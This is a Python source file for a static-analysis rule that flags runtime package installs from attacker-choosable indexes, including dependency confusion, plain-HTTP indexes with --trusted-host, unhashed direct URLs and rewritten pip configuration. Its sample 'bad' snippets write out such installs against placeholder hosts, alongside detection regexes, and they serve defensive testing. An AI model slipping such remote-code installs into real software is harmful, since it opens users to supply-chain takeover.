"""A package is installed while the program runs, from an index or an address of the code's own choice.

Whoever owns that index decides what `pip` runs; with `--extra-index-url` anyone can: the higher version wins, wherever
it lies (dependency confusion).  `--trusted-host` and plain HTTP let anyone on the way decide.  Declare dependencies,
pin them with hashes, and leave the index to the configuration.  See CWE-427, CWE-829 and pip's documentation of
`--require-hashes`.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

import libcst as cst

from codeguard.checks._api import Bad, Check, Good, Hit, Miss
from codeguard.checks.malicious._calls import calls
from codeguard.checks.malicious._evaluate import text_of, value_of
from codeguard.checks.malicious._reach import reach
from codeguard.checks.malicious._shell import commands
from codeguard.checks.malicious._when import SETUP
from codeguard.checks.malicious._writes import writes
from codeguard.model import Confidence, Severity
from codeguard.syntax.unit import Unit

INSTALLS = re.compile(
    r"\b(?:pip[\d.]*|uv|pipx|easy_install|poetry|pdm|conda|mamba)(?:\.exe)?\b.*\b(?:install|add)\b|\beasy_install\b",
    re.IGNORECASE | re.DOTALL,
)
_PUBLIC_HOSTS = r"pypi\.org|files\.pythonhosted\.org|test\.pypi\.org|registry\.npmjs\.org|conda\.anaconda\.org|download\.pytorch\.org"
PUBLIC = re.compile(rf"https?://(?:{_PUBLIC_HOSTS})(?:/|$)")
# An index that is named in the code; one that is configured, or a folder of wheels, is no foreign one.
FOREIGN = re.compile(
    r"(?:--(?:extra-)?index-url|--index|--find-links|(?<=\s)-i|(?<=\s)-f|--default-index|(?<=\s)-c|--channel)[= ]+[\"']?(?:\w+=)?"
    rf"https?://(?!(?:{_PUBLIC_HOSTS})(?:/|$))",
    re.IGNORECASE,
)
SETS_INDEX = re.compile(
    r"\b(?:pip[\d.]*\s+config|uv|poetry|npm|conda)\b.*\b(?:set|add|source|config)\b.*\b(?:index-url|extra-index-url|repositories|registry|source\s+add|channels)\b.*https?://",
    re.IGNORECASE | re.DOTALL,
)
UNPROTECTED = re.compile(r"--trusted-host|(?:--(?:extra-)?index-url|-i)[= ]+http://", re.IGNORECASE)
DIRECT = re.compile(
    r"(?<![\w.@+-])(?:git\+)?https?://\S+\.(?:whl|tar\.gz|zip|tgz)\b|\bgit\+(?:https?|ssh)://\S+", re.IGNORECASE
)
PINNED = re.compile(r"--require-hashes|#sha256=|\s-r\s|--requirement|@[0-9a-f]{40}\b", re.IGNORECASE)
DIRECT_REQUIREMENT = re.compile(r"^\s*[\w.-]+(?:\[[\w,]+\])?\s*@\s*https?://(?!.*#sha256=)", re.IGNORECASE)
CONFIGURATION = re.compile(
    r"pip\.conf|pip\.ini|\.pypirc|uv\.toml|pyproject\.toml|Pipfile|requirements[\w-]*\.txt|\.npmrc|\.condarc"
)
INDEX_SETTING = re.compile(
    r"index[-_]url|\[\[(?:tool\.(?:poetry\.source|uv\.index|pdm\.source)|source)\]\]|^\s*registry\s*=", re.MULTILINE
)
VARIABLES = {
    "PIP_INDEX_URL",
    "PIP_EXTRA_INDEX_URL",
    "PIP_TRUSTED_HOST",
    "UV_INDEX_URL",
    "UV_EXTRA_INDEX_URL",
    "UV_DEFAULT_INDEX",
    "PIP_FIND_LINKS",
}
PIP = {"pip.main", "pip._internal.main", "pip._internal.cli.main.main", "pip._internal.main.main"}


def find(unit: Unit) -> Iterator[Hit]:
    """Report installations from elsewhere, configurations of another index, and requirements at plain addresses."""
    flow = (
        unit.fact(reach)
        if "pip" in unit.text
        or "install" in unit.text
        or "dependency_links" in unit.text
        or "INDEX" in unit.text
        or "[[tool." in unit.text
        else None
    )
    if flow is None:
        return
    for command in unit.fact(commands):
        if INSTALLS.search(command.text):
            yield from _install(command.call, command.text)
        elif SETS_INDEX.search(command.text):
            yield Hit(
                command.call, "This changes which index packages are installed from, for every later installation"
            )
    for _name, call in unit.fact(calls).of(PIP):
        if call.args:
            yield from _install(call, "pip " + " ".join(flow.constants(call.args[0].value)))
    for write in unit.fact(writes):
        if CONFIGURATION.search(write.where) and _other_index("\n".join(write.content)):
            yield Hit(write.call, "This changes which index packages are installed from, for every later installation")
    yield from _in_environment(unit)
    for statement in unit.nodes(cst.Assign):
        for target in statement.targets:
            item = target.target
            if (
                isinstance(item, cst.Subscript)
                and unit.name(item.value) == "os.environ"
                and set(flow.constants(item.slice[0])) & VARIABLES
                and flow.constants(statement.value)
            ):
                yield Hit(
                    item,
                    "This changes which index `pip` installs packages from, for everything that is started from here",
                )
    for name in SETUP:
        for call in unit.calls.get(name, ()):
            yield from _requirements(call, unit)


def _other_index(text: str) -> bool:
    """Whether a configuration names an index by its address, and not the public one."""
    return bool(INDEX_SETTING.search(text)) and any(
        not PUBLIC.match(a) for a in re.findall(r"https?://[^\s'\"]+", text)
    )


def _in_environment(unit: Unit) -> Iterator[Hit]:
    """An environment for other programs, put together here, that names an index by its address."""
    if not any(name in unit.text for name in VARIABLES):
        return
    flow = unit.fact(reach)
    named: list[tuple[cst.CSTNode, str | None, cst.BaseExpression]] = [
        (e, text_of(value_of(e.key, unit)), e.value) for e in unit.nodes(cst.DictElement)
    ]
    named += [(a, a.keyword.value, a.value) for a in unit.nodes(cst.Arg) if a.keyword is not None]
    for call in unit.fact(calls).by_method.get("setdefault", ()):
        if len(call.args) == 2 and (unit.name(call.func) or "").startswith("os.environ"):
            named.append((call, text_of(value_of(call.args[0].value, unit)), call.args[1].value))
    for call in unit.fact(calls).by_name.get("os.putenv", ()):
        if len(call.args) == 2:
            named.append((call, text_of(value_of(call.args[0].value, unit)), call.args[1].value))
    for node, name, value in named:
        if name in VARIABLES and any(re.match(r"https?://", t) and not PUBLIC.match(t) for t in flow.constants(value)):
            yield Hit(
                node, "This changes which index packages are installed from, for everything that is started with it"
            )


def _install(call: cst.Call, text: str) -> Iterator[Hit]:
    if PINNED.search(text):
        return
    if UNPROTECTED.search(text):
        yield Hit(
            call,
            "This installs a package over an unprotected connection while the program runs: whoever is on the way decides what is run",
        )
    elif FOREIGN.search(text):
        yield Hit(
            call,
            "This installs a package from an index of its own choice while the program runs: that index decides what is run",
            severity=Severity.MEDIUM,
            confidence=Confidence.MEDIUM,
        )
    elif DIRECT.search(text):
        yield Hit(
            call,
            "This installs a package from a fixed address while the program runs, with no digest to check it by",
            severity=Severity.MEDIUM,
            confidence=Confidence.MEDIUM,
        )


def _requirements(call: cst.Call, unit: Unit) -> Iterator[Hit]:
    flow = unit.fact(reach)
    for arg in call.args:
        keyword = arg.keyword.value if arg.keyword else ""
        if keyword == "dependency_links" and flow.constants(arg.value):
            yield Hit(
                arg,
                "`dependency_links` takes dependencies from fixed addresses, past the index",
                severity=Severity.MEDIUM,
                confidence=Confidence.MEDIUM,
            )
        if keyword in {"install_requires", "setup_requires", "extras_require", "tests_require"}:
            for text in flow.constants(arg.value):
                if DIRECT_REQUIREMENT.match(text):
                    yield Hit(
                        arg,
                        f"The dependency `{text.split('@')[0].strip()[:40]}` comes from a fixed address, past the index and with no digest to check it by",
                        severity=Severity.MEDIUM,
                        confidence=Confidence.MEDIUM,
                    )
                    break


CHECK = Check(
    id="CGM017",
    behaviour="install packages from a place of its own choice",
    name="foreign-package-index",
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    cwe=(506, 427, 829),
    find=find,
    fix="Declare the dependency, pin it with a hash, and leave the index to the configuration.",
    bad=(
        Bad(
            "import os, subprocess\nenv = dict(os.environ, PIP_INDEX_URL='https://p.example.invalid/simple')  # finding\nsubprocess.run(['pip', 'install', 'acme'], env=env)\n"
        ),
        Bad("import os\nos.system('pip config set global.index-url https://p.example.invalid/simple')  # finding\n"),
        Bad(
            "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '--index-url', 'http://p.example.invalid/simple', '--trusted-host', 'p.example.invalid', 'acme-auth'])  # finding\n"
        ),
        Bad(
            "import os\nos.system('pip install --extra-index-url https://p.example.invalid/simple acme-auth')  # finding\n"
        ),
        Bad("import os\nos.environ['PIP_INDEX_URL'] = 'https://p.example.invalid/simple'  # finding\n"),
        Bad(
            "from setuptools import setup\nsetup(name='a', install_requires=['core @ https://c.example.invalid/core-1.tar.gz'])  # finding\n"
        ),
        Bad("import pip\npip.main(['install', 'https://c.example.invalid/core-1.tar.gz'])  # finding\n"),
        Bad(
            "import pathlib\n(pathlib.Path.home() / '.pip' / 'pip.conf').write_text('[global]\\nextra-index-url = https://p.example.invalid/simple\\n')  # finding\n"
        ),
    ),
    good=(
        Good(
            "import subprocess, sys\n\ndef install(folder, wheel):\n    subprocess.run([sys.executable, '-m', 'pip', 'install', '--no-index', '--find-links', folder, wheel], check=True)\n"
        ),
        Good(
            "import subprocess, sys\n\ndef install(pkg):\n    subprocess.check_call([sys.executable, '-m', 'pip', 'install', '--index-url', 'https://p.example.invalid/simple', '--require-hashes', '-r', 'requirements.lock'])\n"
        ),
        Good(
            "import subprocess, sys\n\ndef install(pkg):\n    subprocess.check_call([sys.executable, '-m', 'pip', 'install', pkg])\n"
        ),
        Good(
            "from setuptools import setup\nsetup(name='a', install_requires=['requests>=2.31'], extras_require={'pandas': ['pandas>=2']})\n"
        ),
        Good("import os\nINDEX = os.environ.get('PIP_INDEX_URL', '')\n"),
    ),
    misses=(
        Miss(
            "import subprocess\nsubprocess.run(COMMAND_OF_ANOTHER_FILE + ['--index-url', 'https://p.example.invalid/simple', 'acme'])  # finding\n",
            why="what runs is not known to be pip",
        ),
    ),
)
